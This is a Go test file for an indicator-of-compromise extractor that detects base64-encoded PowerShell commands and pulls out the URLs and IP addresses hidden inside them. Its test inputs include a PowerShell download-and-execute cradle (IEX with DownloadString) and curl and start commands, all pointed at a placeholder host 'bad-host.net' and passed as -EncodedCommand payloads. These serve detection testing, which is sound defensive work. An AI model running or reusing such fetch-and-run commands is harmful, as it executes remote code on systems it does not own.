package ioc

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// encoded writes ASCII as PowerShell takes commands.
func encoded(command string) string {
	var b []byte
	for _, c := range []byte(command) {
		b = append(b, c, 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestEncodedCommands(t *testing.T) {
	command := encoded("IEX (New-Object Net.WebClient).DownloadString('http://bad-host.net/a.ps1') # 198.51.100.7")
	found := []string{"powershell " + command, "url http://bad-host.net/a.ps1", "ip 198.51.100.7"}
	inner := encoded("start http://bad-host.net/deep")
	run(t, []readCase{
		{"behind its option", "powershell -nop -EncodedCommand " + command, found},
		{"behind a short option", "powershell -e " + command + " & exit", found},
		{"in quotes", `"` + command + `"`, found},
		{"without padding", strings.TrimRight(command, "="), append([]string{"powershell " + strings.TrimRight(command, "=")}, found[1:]...)},
		{"text that is decoded", "[Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString([]byte("curl http://bad-host.net/b")) + "')",
			[]string{"url http://bad-host.net/b"}},
		{"bytes that are decoded", "FromBase64String('" + base64.StdEncoding.EncodeToString([]byte{0x1f, 0x8b, 8, 0, 0}) + "')", nil},
		{"a command in a command", encoded("powershell -e " + inner), []string{"powershell " + encoded("powershell -e "+inner)}},
		{"too short to tell", encoded("dir"), nil},
		{"other Base64", base64.StdEncoding.EncodeToString([]byte("http://bad-host.net/ in plain ASCII 0123456789")), nil},
		{"zeros", strings.Repeat("AQAA", 20), nil},
	})
}

func TestEncodedCommandsKeepTheirPlace(t *testing.T) {
	command := encoded("start http://bad-host.net/a; ping 127.0.0.1")
	text := "run powershell -enc " + command + " now"
	got := Find(text, Options{})
	require.Len(t, got, 3)
	for _, i := range got {
		assert.Equal(t, command, text[i.Start:i.End])
		assert.Equal(t, command, i.Raw)
	}
	assert.Equal(t, "inside an encoded command", got[1].Why)
	assert.Equal(t, Attack, got[1].Role)
	assert.Equal(t, Benign, got[2].Role, "a private address stays one")
}

func TestEncodedCommandsAreBounded(t *testing.T) {
	long := encoded(strings.Repeat("a ", maxCommand) + " http://bad-host.net/late")
	assert.Equal(t, []string{"powershell " + long}, values(long))
}
